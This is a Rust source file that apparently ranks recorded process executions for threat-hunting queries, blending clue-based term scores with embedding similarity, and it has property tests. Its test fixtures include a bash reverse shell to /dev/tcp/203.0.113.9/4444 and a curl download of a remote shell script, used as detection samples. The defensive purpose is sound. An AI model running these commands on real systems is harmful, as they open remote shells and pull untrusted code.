//! Going through executions and keeping the best few.
//!
//! The score is the share of the question that was found: every part of it weighs what it means (a term of the
//! vocabulary two, a word one), and an execution has each part with the strength of the best clue that it shows, raised
//! by those that say the same:
//!
//! strength(part) = 1 - (1 - best) * product of (1 - 0.3 s) over the other signs s, for terms; best for words
//!
//! score = sum of weight * strength over the parts / sum of the weights
//!
//! Where a sentence model was asked too, the score is the mean of that and of how near the meanings are, with cosines
//! from .15 (as near as anything is to anything) to .65 (as near as a question and its answer come) stretched to 0 to 1.
//!
//! It does not depend on what else there is, so that the same execution has the same score in every baseline. Of two
//! with the same score the rarer comes first, then the later.

use std::cmp::{Ordering, Reverse};
use std::collections::BinaryHeap;

use anomaly_vectorizer::Execution;

use crate::clues::Reader;
use crate::mark;
use crate::query::{Part, Query};
use crate::vocabulary::Term;

/// How much a further sign of the same term adds.
const FURTHER: f32 = 0.3;

/// A cosine of meanings that says nothing, and one that says all.
const UNRELATED: f32 = 0.15;
const ALIKE: f32 = 0.65;

/// How near in meaning, stretched, an execution must be that has no word of the question: a cosine of .3.
const LEAST_MEANING: f32 = 0.3;

/// Most hits that are kept.
pub const MAX_HITS: usize = 10_000;

/// An execution, or another act, that may be what is meant.
#[derive(Debug, Clone, Copy)]
pub struct Candidate<'a> {
    /// What ran.
    pub execution: &'a Execution,
    /// The surroundings it was seen with, in words.
    pub surroundings: &'a [&'static str],
    /// How often it was seen.
    pub count: u64,
    /// When it was first seen, in microseconds since the Unix epoch.
    pub first_seen: i64,
    /// When it was last seen.
    pub last_seen: i64,
    /// How near its meaning is to the question's, -1 to 1, where a sentence model was asked.
    pub meaning: Option<f32>,
}

/// Which hits are wanted.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct Options {
    /// At most so many; never more than [`MAX_HITS`].
    pub limit: usize,
    /// Only what was seen at this time or later, in microseconds since the Unix epoch.
    pub since: Option<i64>,
    /// Only what was seen at this time or before.
    pub until: Option<i64>,
    /// Only scores from here on; what has none of the question is no hit in any case.
    pub min_score: f32,
}

impl Default for Options {
    fn default() -> Self {
        Self { limit: 20, since: None, until: None, min_score: 0.0 }
    }
}

/// An execution that has something of what was asked.
#[derive(Debug, Clone, PartialEq)]
pub struct Hit {
    /// Its place among the candidates, from 0.
    pub index: usize,
    /// How much of the question it has, above 0 to 1.
    pub score: f32,
    /// How near in meaning it is, stretched to 0 to 1; `None` where no model was asked.
    pub meaning: Option<f32>,
    /// Which parts of the question it has, in the question's order.
    pub matches: Vec<Match>,
    /// Where they are in [`Execution::command_line`]: ranges of bytes at characters' boundaries, in order, apart.
    pub spans: Vec<(usize, usize)>,
}

/// One part of the question that an execution has.
#[derive(Debug, Clone, PartialEq)]
pub struct Match {
    /// What was asked.
    pub asked: String,
    /// What kind of part it is.
    pub source: Source,
    /// How strongly the execution shows it, above 0 to 1.
    pub strength: f32,
    /// By what, in words: `flag -e`, `operator /dev/tcp`; at most 8.
    pub found: Vec<String>,
}

/// Where a match comes from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Source {
    /// The word itself.
    Word,
    /// A term of the vocabulary, by its name.
    Term(&'static str),
}

/// What is listed of a match.
const MAX_FOUND: usize = 8;

/// A candidate with its score, as the heap orders it: the worst on top.
struct Kept<'a> {
    score: f32,
    index: usize,
    candidate: Candidate<'a>,
}

impl Kept<'_> {
    /// The better first.
    fn order(&self, other: &Self) -> Ordering {
        let by = |kept: &Self| (kept.candidate.count, Reverse(kept.candidate.last_seen), kept.index);
        other.score.total_cmp(&self.score).then_with(|| by(self).cmp(&by(other)))
    }
}

impl Ord for Kept<'_> {
    fn cmp(&self, other: &Self) -> Ordering {
        self.order(other)
    }
}

impl PartialOrd for Kept<'_> {
    fn partial_cmp(&self, other: &Self) -> Option<Ordering> {
        Some(self.cmp(other))
    }
}

impl PartialEq for Kept<'_> {
    fn eq(&self, other: &Self) -> bool {
        self.order(other).is_eq()
    }
}

impl Eq for Kept<'_> {}

impl Query {
    /// The best of the candidates, the best first. Each is looked at once; memory does not depend on how many there are.
    pub fn rank<'a>(
        &self,
        candidates: impl IntoIterator<Item = Candidate<'a>>,
        options: &Options,
    ) -> Vec<Hit> {
        let limit = options.limit.min(MAX_HITS);
        let mut reader = Reader::default();
        let mut best: BinaryHeap<Kept<'a>> = BinaryHeap::new();
        for (index, candidate) in candidates.into_iter().enumerate() {
            let is_within = options.since.is_none_or(|since| candidate.last_seen >= since)
                && options.until.is_none_or(|until| candidate.first_seen <= until);
            if !is_within || limit == 0 {
                continue;
            }
            let score = self.score(&mut reader, &candidate);
            if score <= 0.0 || score < options.min_score {
                continue;
            }
            let kept = Kept { score, index, candidate };
            if best.len() < limit {
                best.push(kept);
            } else if best.peek().is_some_and(|worst| kept < *worst) {
                best.pop();
                best.push(kept);
            }
        }
        let best = best.into_sorted_vec();
        best.into_iter()
            .map(|Kept { score, index, candidate }| self.hit(&mut reader, score, index, candidate))
            .collect()
    }

    /// How much of the question an execution has, 0 to 1.
    fn score(&self, reader: &mut Reader, candidate: &Candidate<'_>) -> f32 {
        let words = if reader.read(&self.tests, candidate.execution, candidate.surroundings) {
            let weight: f32 = self.parts.iter().map(|part| part.weight).sum();
            let found: f32 = self.parts.iter().map(|part| part.weight * part.strength(reader)).sum();
            found / weight
        } else {
            0.0
        };
        match candidate.meaning.map(stretched) {
            None => words,
            Some(meaning) if words == 0.0 && meaning < LEAST_MEANING => 0.0,
            Some(meaning) => f32::midpoint(words, meaning),
        }
    }

    fn hit(&self, reader: &mut Reader, score: f32, index: usize, candidate: Candidate<'_>) -> Hit {
        reader.read(&self.tests, candidate.execution, candidate.surroundings);
        let mut matches = Vec::new();
        let mut passed = Vec::new();
        for part in &self.parts {
            let strength = part.strength(reader);
            if strength > 0.0 {
                let from = passed.len();
                for clue in part.clues.iter().filter(|clue| reader.strength(clue) > 0.0) {
                    passed.extend(reader.found(clue));
                }
                let mut found: Vec<String> = Vec::new();
                for &id in &passed[from..] {
                    let name = self.tests.name(id);
                    if found.len() < MAX_FOUND && !found.iter().any(|known| known == name) {
                        found.push(name.to_owned());
                    }
                }
                let source = part.term.map_or(Source::Word, |term: &Term| Source::Term(term.name));
                matches.push(Match { asked: part.asked.clone(), source, strength, found });
            }
        }
        passed.sort_unstable();
        passed.dedup();
        let spans = mark::spans(&self.tests, &passed, candidate.execution);
        Hit { index, score, meaning: candidate.meaning.map(stretched), matches, spans }
    }
}

/// A cosine of meanings as a share of what cosines of questions and executions span.
fn stretched(cosine: f32) -> f32 {
    ((cosine - UNRELATED) / (ALIKE - UNRELATED)).clamp(0.0, 1.0)
}

impl Part {
    /// How strongly what was read shows this part.
    fn strength(&self, reader: &Reader) -> f32 {
        let (mut best, mut rest) = (0.0_f32, 1.0_f32);
        for clue in &self.clues {
            let strength = reader.strength(clue);
            if strength <= 0.0 {
                continue;
            }
            // The best of all is set aside; what was the best until now is one of the others.
            let other = if strength > best { std::mem::replace(&mut best, strength) } else { strength };
            rest *= 1.0 - FURTHER * other;
        }
        if self.term.is_some() { 1.0 - (1.0 - best) * rest } else { best }
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::readings::of_arguments;

    fn candidate(execution: &Execution) -> Candidate<'_> {
        Candidate { execution, surroundings: &[], count: 1, first_seen: 10, last_seen: 20, meaning: None }
    }

    fn rank(question: &str, executions: &[Execution], options: &Options) -> Vec<Hit> {
        Query::parse(question).expect("a question").rank(executions.iter().map(candidate), options)
    }

    fn some() -> Vec<Execution> {
        vec![
            of_arguments("ls", ["ls", "-l"]),
            of_arguments("bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]),
            of_arguments("bash", ["bash", "/usr/local/bin/backup.sh"]),
            of_arguments("curl", ["curl", "-s", "http://203.0.113.9/x.sh"]),
        ]
    }

    #[test]
    fn the_articles_question_finds_the_articles_command() {
        let executions = some();
        let hits = rank("reverse shell bash outbound connection", &executions, &Options::default());
        assert_eq!(hits[0].index, 1, "{hits:?}");
        assert!(hits[0].score > 0.9 && hits[0].score <= 1.0, "{hits:?}");
        assert!(hits[1].score < 0.5, "{hits:?}");
        let line = executions[1].command_line();
        let marked: Vec<_> = hits[0].spans.iter().map(|&(start, end)| &line[start..end]).collect();
        assert!(marked.contains(&"/dev/tcp/203.0.113.9/4444"), "{marked:?}");
        let term = &hits[0].matches[0];
        assert_eq!((term.source, &*term.asked), (Source::Term("reverse shell"), "reverse shell"));
        assert!(term.found.iter().any(|found| found == "operator /dev/tcp"), "{term:?}");
    }

    #[test]
    fn what_changes_from_run_to_run_may_differ() {
        let hits = rank("http://198.51.100.20/y.sh", &some(), &Options::default());
        assert_eq!(hits[0].index, 3, "{hits:?}");
        assert!(hits[0].score > 0.9);
    }

    #[test]
    fn hits_are_bounded_by_time_number_and_score() {
        let executions = some();
        let none = Options { since: Some(21), ..Options::default() };
        assert!(rank("bash", &executions, &none).is_empty());
        assert!(rank("bash", &executions, &Options { until: Some(9), ..Options::default() }).is_empty());
        let overlapping = Options { since: Some(15), until: Some(12), ..Options::default() };
        assert_eq!(rank("bash", &executions, &overlapping).len(), 2);
        assert_eq!(rank("bash", &executions, &Options { limit: 1, ..Options::default() }).len(), 1);
        assert!(rank("bash", &executions, &Options { limit: 0, ..Options::default() }).is_empty());
        assert!(rank("nothing-has-this", &executions, &Options::default()).is_empty());
        let good = Options { min_score: 0.9, ..Options::default() };
        assert_eq!(rank("reverse shell", &executions, &good).len(), 1);
    }

    #[test]
    fn of_two_alike_the_rarer_comes_first_then_the_later() {
        let execution = of_arguments("ls", ["ls"]);
        let with = |count, last_seen| Candidate { count, last_seen, ..candidate(&execution) };
        let all = [with(5, 9), with(2, 1), with(2, 7)];
        let hits = Query::parse("ls").expect("a question").rank(all, &Options::default());
        assert_eq!(hits.iter().map(|hit| hit.index).collect::<Vec<_>>(), [2, 1, 0]);
    }

    #[test]
    fn meaning_and_words_count_alike_and_meaning_alone_has_to_be_near() {
        let execution = of_arguments("ls", ["ls"]);
        let score = |question: &str, meaning| {
            let candidate = Candidate { meaning, ..candidate(&execution) };
            let hits = Query::parse(question).expect("a question").rank([candidate], &Options::default());
            hits.first().map(|hit| (hit.score, hit.meaning))
        };
        assert_eq!(score("ls", None), Some((1.0, None)));
        assert_eq!(score("ls", Some(0.1)), Some((0.5, Some(0.0))));
        assert_eq!(score("ls", Some(0.9)), Some((1.0, Some(1.0))));
        assert_eq!(score("zebra", Some(0.65)), Some((0.5, Some(1.0))));
        assert_eq!(score("zebra", Some(0.29)), None);
    }

    proptest! {
        #[test]
        fn the_best_few_are_the_beginning_of_all(
            lines in proptest::collection::vec("(bash|curl|nc|-e|/tmp/x|[|]|[a-z]{1,6}| ){0,8}", 0..40),
            question in "(bash|curl|nc|reverse shell|persistence|[a-z]{1,5})( (tmp|-e|exfiltration))?",
            limit in 1usize..10,
        ) {
            let executions: Vec<_> =
                lines.iter().map(|line| of_arguments(line.split(' ').next().unwrap_or(""), line.split(' '))).collect();
            let all = rank(&question, &executions, &Options { limit: 100, ..Options::default() });
            let few = rank(&question, &executions, &Options { limit, ..Options::default() });
            prop_assert_eq!(&few[..], &all[..limit.min(all.len())]);
            prop_assert!(all.windows(2).all(|two| two[0].score >= two[1].score));
            for hit in &all {
                prop_assert!(hit.score > 0.0 && hit.score <= 1.0, "{}", hit.score);
                let line = executions[hit.index].command_line();
                let mut end = 0;
                for &(from, to) in &hit.spans {
                    prop_assert!(end <= from && from < to && line.get(from..to).is_some());
                    end = to;
                }
            }
        }

        #[test]
        fn hostile_command_lines_are_ranked(bytes in proptest::collection::vec(".{0,60}", 0..6), question in ".{1,40}") {
            let execution = of_arguments("x", bytes.iter().map(String::as_str));
            if let Ok(query) = Query::parse(&question) {
                for hit in query.rank([candidate(&execution)], &Options::default()) {
                    let line = execution.command_line();
                    prop_assert!(hit.spans.iter().all(|&(from, to)| line.get(from..to).is_some()));
                }
            }
        }
    }
}
